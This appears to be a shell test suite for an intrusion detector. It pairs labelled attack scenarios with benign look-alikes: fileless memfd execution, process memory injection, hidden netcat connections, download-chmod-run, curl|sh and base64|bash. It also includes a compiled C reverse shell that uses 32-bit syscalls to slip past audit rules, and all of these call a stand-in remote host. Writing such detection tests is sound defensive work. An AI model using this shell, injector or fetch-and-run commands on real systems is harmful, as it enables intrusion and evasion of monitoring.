# Programs that are no files, code written into memory, other processes written into, and what is downloaded and run.

prepare() {
  install -d /opt/tools
  cat >/opt/tools/rwx.c <<'CODE'
#include <arpa/inet.h>
#include <string.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>
/* Writes "return 7" into memory that may be written and executed, calls it, and connects where it is told to. */
int main(int argc, char **argv) {
  unsigned char code[] = {0xb8, 7, 0, 0, 0, 0xc3};
  void *m = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  memcpy(m, code, sizeof code);
  int said = ((int (*)(void))m)();
  if (argc > 2) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
    inet_pton(AF_INET, argv[1], &to.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&to, sizeof to)) return 1;
    write(s, "hello\n", 6);
  }
  return said != 7;
}
CODE
  cat >/opt/tools/inject.c <<'CODE'
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <stdio.h>
#include <unistd.h>
/* Changes a word of another process and puts it back: inject ptrace|writev PID ADDRESS. */
int main(int argc, char **argv) {
  pid_t pid = atoi(argv[2]);
  unsigned long at = strtoul(argv[3], 0, 16);
  if (!strcmp(argv[1], "writev")) {
    char word[8];
    struct iovec mine = {word, 8}, theirs = {(void *)at, 8};
    if (process_vm_readv(pid, &mine, 1, &theirs, 1, 0) != 8) return 1;
    return process_vm_writev(pid, &mine, 1, &theirs, 1, 0) != 8;
  }
  if (ptrace(PTRACE_ATTACH, pid, 0, 0)) return 2;
  waitpid(pid, 0, 0);
  long word = ptrace(PTRACE_PEEKDATA, pid, at, 0);
  if (ptrace(PTRACE_POKEDATA, pid, at, word)) return 3;
  return ptrace(PTRACE_DETACH, pid, 0, 0) != 0;
}
CODE
  cat >/opt/tools/old_calls.c <<'CODE'
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
/* A 64-bit program that connects through the 32-bit interface, whose calls few audit rules ask for. */
static long call(long number, long a, void *b) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b) : "memory", "r8", "r9", "r10", "r11");
  return result;
}
int main(int argc, char **argv) {
  unsigned *low = mmap((void *)0x10000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
  if (low == MAP_FAILED) return 1;
  struct sockaddr_in *to = (struct sockaddr_in *)(low + 64);
  to->sin_family = AF_INET;
  to->sin_port = htons(atoi(argv[2]));
  inet_pton(AF_INET, argv[1], &to->sin_addr);
  low[0] = AF_INET, low[1] = SOCK_STREAM, low[2] = 0;
  int s = call(102, 1, low);
  if (s < 0) return 2;
  low[0] = s, low[1] = (unsigned)(long)to, low[2] = sizeof *to;
  if (call(102, 3, low) < 0) return 3;
  for (int fd = 0; fd < 3; fd++) dup2(s, fd);
  execl("/bin/sh", "sh", (char *)0);
  return 4;
}
CODE
  local name
  for name in rwx inject old_calls; do gcc -O1 -w -o "/opt/tools/$name" "/opt/tools/$name.c"; done
}

# A sleeping process of guest, which root writes into because many kernels let users trace their children only, and an address in its data; sets victim and place.
make_victim() {
  setpriv --reuid "$guest_uid" --regid "$guest_uid" --clear-groups -- /usr/bin/sleep 20 &
  victim=$!
  until_true is_sleep
  place=$(sed -n 's/^\([0-9a-f]*\)-[0-9a-f]* rw-p.*\[stack\].*/\1/p' "/proc/$victim/maps")
}
is_sleep() { local name; read -r name <"/proc/$victim/comm"; [ "$name" = sleep ]; }

scenario memfd_exec "python writes a program into a memory file and becomes it" memory_file_executed
memfd_exec() {
  as_guest /usr/bin/python3 -c "
import os
fd = os.memfd_create('note', 0)
os.write(fd, open('/bin/true', 'rb').read())
os.execv(f'/proc/self/fd/{fd}', ['note'])"
}

scenario memfd_download "perl fetches a program into a memory file and runs it as a child" memory_file_executed
memfd_download() {
  as_guest perl -e "
use IO::Socket::INET;
my \$s = IO::Socket::INET->new(PeerAddr => '$far_ip:80') or die;
print \$s qq{GET /tool HTTP/1.0\\r\\n\\r\\n}; \$s->flush;
local \$/; my \$text = <\$s>; \$text =~ s/.*?\\r\\n\\r\\n//s;
my \$name = 'x'; my \$fd = syscall(319, \$name, 0);
open(my \$out, '>&=', \$fd); binmode \$out; print \$out \$text; \$out->flush;
system { \"/proc/\$\$/fd/\$fd\" } 'kworker';"
}

scenario memfd_data "python keeps data in a memory file and runs a tool that is a file"
memfd_data() {
  as_guest /usr/bin/python3 -c "
import os, subprocess
fd = os.memfd_create('cache'); os.write(fd, b'data')
subprocess.run(['/bin/true'])"
}

scenario deletes_itself "a program removes its own file while it runs" program_deletes_itself
deletes_itself() {
  cp /usr/bin/perl /tmp/update
  chown 4242 /tmp/update
  as_guest /tmp/update -e 'unlink "/tmp/update"; system("true")'
}

scenario deletes_another "a program removes a file that it has made"
deletes_another() {
  cp /usr/bin/perl /tmp/work
  chown 4242 /tmp/work
  as_guest /tmp/work -e 'open(F, ">", "/tmp/scratch"); close F; unlink "/tmp/scratch"'
}

scenario shm_connects "a program lies in shared memory and connects to another host" hidden_program_connects
shm_connects() {
  install -m 0755 /usr/bin/nc.openbsd /dev/shm/.cache
  echo hello | as_guest /dev/shm/.cache -N -w 2 "$far_ip" 9021
}

scenario tmp_hidden_connects "a program lies in a hidden folder below /tmp and connects to another host" hidden_program_connects
tmp_hidden_connects() {
  install -d -m 0755 /tmp/.X1
  install -m 0755 /usr/bin/nc.openbsd /tmp/.X1/agent
  echo hello | as_guest /tmp/.X1/agent -N -w 2 "$far_ip" 9022
}

scenario tmp_loopback "a test program in /tmp connects to a server on this host"
tmp_loopback() {
  install -d -m 0755 /tmp/build
  install -m 0755 /usr/bin/nc.openbsd /tmp/build/test
  /usr/bin/python3 -c "
import socket
l = socket.create_server(('127.0.0.1', 8100)); s, _ = l.accept(); s.close()" &
  until_true listens 8100
  echo hello | as_guest /tmp/build/test -N -w 2 127.0.0.1 8100
  return 0
}

scenario rwx_connects "a program writes code into memory, runs it and connects to another host" executable_memory_then_connect
rwx_connects() {
  install -m 0755 /opt/tools/rwx /home/guest/rwx
  as_guest /home/guest/rwx "$far_ip" 9023
}

scenario rwx_python "python makes memory executable through ctypes, then connects" executable_memory_then_connect
rwx_python() {
  as_guest /usr/bin/python3 -c "
import mmap, socket
m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
s = socket.create_connection(('$far_ip', 9024)); s.close()"
}

scenario rwx_only "a program writes code into memory and connects to nobody"
rwx_only() {
  install -m 0755 /opt/tools/rwx /home/guest/rwx
  as_guest /home/guest/rwx
}

scenario node_connects "node, which compiles to memory, connects to another host"
node_connects() {
  needs node
  as_guest "$(command -v node)" -e "require('net').connect(9025, '$far_ip', function () { this.end(); })"
}

scenario ptrace_poke "a program attaches to another process and writes a word of its memory" ptrace_write
ptrace_poke() {
  make_victim
  /opt/tools/inject ptrace "$victim" "$place"
}

scenario vm_writev "a program writes a word of another process's memory in one call" foreign_memory_write
vm_writev() {
  make_victim
  /opt/tools/inject writev "$victim" "$place"
}

scenario proc_mem "python writes another process's memory through /proc" foreign_memory_write
proc_mem() {
  make_victim
  /usr/bin/python3 -c "
m = open('/proc/$victim/mem', 'r+b', buffering=0); m.seek(0x$place); word = m.read(8)
m.seek(0x$place); m.write(word)"
}

scenario debugger_calls "gdb attaches without anybody at it and calls a function in the process" debugger_calls_function
debugger_calls() {
  needs gdb
  make_victim
  timeout 20 gdb -q -nx -batch -p "$victim" -ex 'call (int) getpid()'
  return 0
}

scenario tracers "strace follows a process and gdb shows where one stands; nobody writes into one by hand"
tracers() {
  needs strace
  as_guest strace -o /dev/null true
  as_guest timeout 20 gdb -q -nx -batch -ex run -ex bt /bin/true
  return 0
}

scenario curl_run "curl fetches a program, chmod makes it executable, it is run" download_made_executable_run
curl_run() { as_guest sh -c "cd /tmp; curl -s -o helper http://$far_ip/tool; chmod +x helper; ./helper; true"; }

scenario wget_run "the same with wget, whole paths and numbers for the permissions" download_made_executable_run
wget_run() { as_guest sh -c "wget -q -O /var/tmp/.agent http://$far_ip/tool; chmod 777 /var/tmp/.agent; /var/tmp/.agent; true"; }

scenario python_fetch_run "python does all three itself" download_made_executable_run
python_fetch_run() {
  as_guest /usr/bin/python3 -c "
import os, subprocess, urllib.request
text = urllib.request.urlopen('http://$far_ip/tool').read()
open('/tmp/new', 'wb').write(text); os.chmod('/tmp/new', 0o755); subprocess.run(['/tmp/new'])"
}

scenario curl_keep "curl fetches a file that is made executable and not run"
curl_keep() { as_guest sh -c "curl -s -o /tmp/later http://$far_ip/tool; chmod +x /tmp/later"; }

scenario build_run "a program is compiled, made executable and run"
build_run() {
  as_guest sh -c "cd /tmp; cp /bin/true built; chmod +x built; ./built"
}

scenario curl_pipe_sh "what curl fetches goes right into sh" download_piped_to_interpreter
curl_pipe_sh() { as_guest bash -c "curl -s http://$far_ip/tool.sh | sh"; }

scenario wget_pipe_python "what wget fetches goes right into python" download_piped_to_interpreter
wget_pipe_python() { as_guest bash -c "wget -q -O - http://$far_ip/tool.py | python3 -"; }

scenario curl_pipe_grep "what curl fetches is searched; a shell script runs beside it"
curl_pipe_grep() {
  echo 'echo done' >/home/guest/step.sh
  as_guest bash -c "curl -s http://$far_ip/tool.sh | grep -c echo; sh /home/guest/step.sh"
}

scenario base64_pipe_sh "encoded text is decoded right into a shell" decoded_text_piped_to_shell
base64_pipe_sh() { as_guest bash -c "echo aWQ7IGVjaG8gaGFybWxlc3MK | base64 -d | bash"; }

scenario base64_file "encoded text is decoded into a file; a script runs"
base64_file() {
  echo 'echo done' >/home/guest/step.sh
  as_guest bash -c "echo aGVsbG8K | base64 -d >/home/guest/text; sh /home/guest/step.sh"
}

scenario old_calls "a 64-bit program connects through 32-bit calls and becomes a shell" mixed_width_calls reverse_shell_in_place
old_calls() {
  install -m 0755 /opt/tools/old_calls /home/guest/old_calls
  as_guest /home/guest/old_calls "$far_ip" 9026
}
